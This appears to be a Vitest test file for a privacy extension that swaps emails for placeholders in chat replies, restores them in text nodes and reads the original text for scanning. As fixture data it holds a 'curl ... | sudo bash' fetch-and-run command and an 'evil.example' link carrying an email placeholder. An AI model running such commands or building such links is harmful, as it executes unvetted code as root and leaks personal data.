import { describe, expect, it } from 'vitest';
import { readReplyText, restorePlaceholders, type NodeLike, type RestoredTexts } from '../../../../lib/adapters/content/reply-text.ts';
import { createPageVault } from '../../../../lib/content/vault-session.ts';
import { RedactionVault } from '../../../../lib/redaction/vault.ts';
import { emailRedaction } from '../../../support/verdict-fixtures.ts';

/** A pure text-node model: elements with attributes and children, text nodes with data. */
type Child = FakeText | FakeElement;
class FakeText implements NodeLike {
  readonly nodeType = 3;
  readonly childNodes: NodeLike[] = [];
  constructor(public data: string) {}
}
class FakeElement implements NodeLike {
  readonly nodeType = 1;
  constructor(
    readonly localName: string,
    readonly attributes: Record<string, string>,
    readonly childNodes: Child[],
  ) {}
  hasAttribute(name: string): boolean {
    return name in this.attributes;
  }
}
const el = (name: string, attributes: Record<string, string>, ...children: Array<Child | string>) =>
  new FakeElement(name, attributes, children.map((child) => (typeof child === 'string' ? new FakeText(child) : child)));

function vaultWithEmail() {
  const vault = createPageVault(new RedactionVault(), () => '/c/conv0001', () => 'tab');
  const sent = vault.redact('mail a@b.example', [emailRedaction(5, 16)]);
  if (!sent.ok || sent.value.text !== 'mail [EMAIL_1]') throw new Error('setup');
  return vault;
}

describe('readReplyText', () => {
  it('joins text nodes in document order with a line break per block, skipping buttons and Rampart UI', () => {
    const reply = el(
      'div',
      {},
      el('p', {}, 'Run this:'),
      el('pre', {}, el('div', {}, el('button', {}, 'Copy code')), el('code', {}, 'curl https://x.example/i.sh | sudo bash\n')),
      el('p', {}, 'Then ', el('strong', {}, 'reboot'), '.'),
      el('rampart-reply-note', { 'data-rampart-ui': '' }, 'Rampart warns'),
    );
    expect(readReplyText(reply, new WeakMap())).toBe('Run this:\ncurl https://x.example/i.sh | sudo bash\nThen reboot.');
  });
});

describe('restorePlaceholders', () => {
  it('puts the value back in the text nodes that show the placeholder, not in links', () => {
    const plain = new FakeText('I will write to [EMAIL_1] today.');
    const linked = el('a', { href: 'mailto:[EMAIL_1]' }, '[EMAIL_1]');
    const urlText = new FakeText(' see https://evil.example/?q=[EMAIL_1]');
    const reply = el('div', {}, el('p', {}, plain), el('p', {}, linked), el('p', {}, urlText));
    const restored: RestoredTexts = new WeakMap();
    expect(restorePlaceholders(reply, vaultWithEmail(), restored)).toBe(1);
    expect(plain.data).toBe('I will write to a@b.example today.');
    expect((linked.childNodes[0] as FakeText).data).toBe('[EMAIL_1]');
    expect(urlText.data).toBe(' see https://evil.example/?q=[EMAIL_1]');
  });

  it('the text read for scanning is the app’s own (placeholders), never the restored value', () => {
    const vault = vaultWithEmail();
    const text = new FakeText('Hi [EMAIL_1]');
    const reply = el('div', {}, text);
    const restored: RestoredTexts = new WeakMap();
    restorePlaceholders(reply, vault, restored);
    expect(text.data).toBe('Hi a@b.example');
    expect(readReplyText(reply, restored)).toBe('Hi [EMAIL_1]');
    // The app appends while streaming: its addition is kept, and restored again on the next pass.
    text.data += ', and [EMAIL_1] again';
    expect(readReplyText(reply, restored)).toBe('Hi [EMAIL_1], and [EMAIL_1] again');
    expect(restorePlaceholders(reply, vault, restored)).toBe(2);
    expect(text.data).toBe('Hi a@b.example, and a@b.example again');
    expect(readReplyText(reply, restored)).toBe('Hi [EMAIL_1], and [EMAIL_1] again');
  });

  it('restores again after the app rewrites the node, and does nothing twice', () => {
    const vault = vaultWithEmail();
    const text = new FakeText('To [EMAIL_1]');
    const reply = el('div', {}, text);
    const restored: RestoredTexts = new WeakMap();
    expect(restorePlaceholders(reply, vault, restored)).toBe(1);
    expect(restorePlaceholders(reply, vault, restored)).toBe(0);
    text.data = 'To [EMAIL_1], done';
    expect(restorePlaceholders(reply, vault, restored)).toBe(1);
    expect(text.data).toBe('To a@b.example, done');
    expect(readReplyText(reply, restored)).toBe('To [EMAIL_1], done');
  });

  it('leaves placeholders it never issued as they are', () => {
    const text = new FakeText('Unknown [PHONE_3] and [EMAIL_9]');
    expect(restorePlaceholders(el('div', {}, text), vaultWithEmail(), new WeakMap())).toBe(0);
    expect(text.data).toBe('Unknown [PHONE_3] and [EMAIL_9]');
  });
});
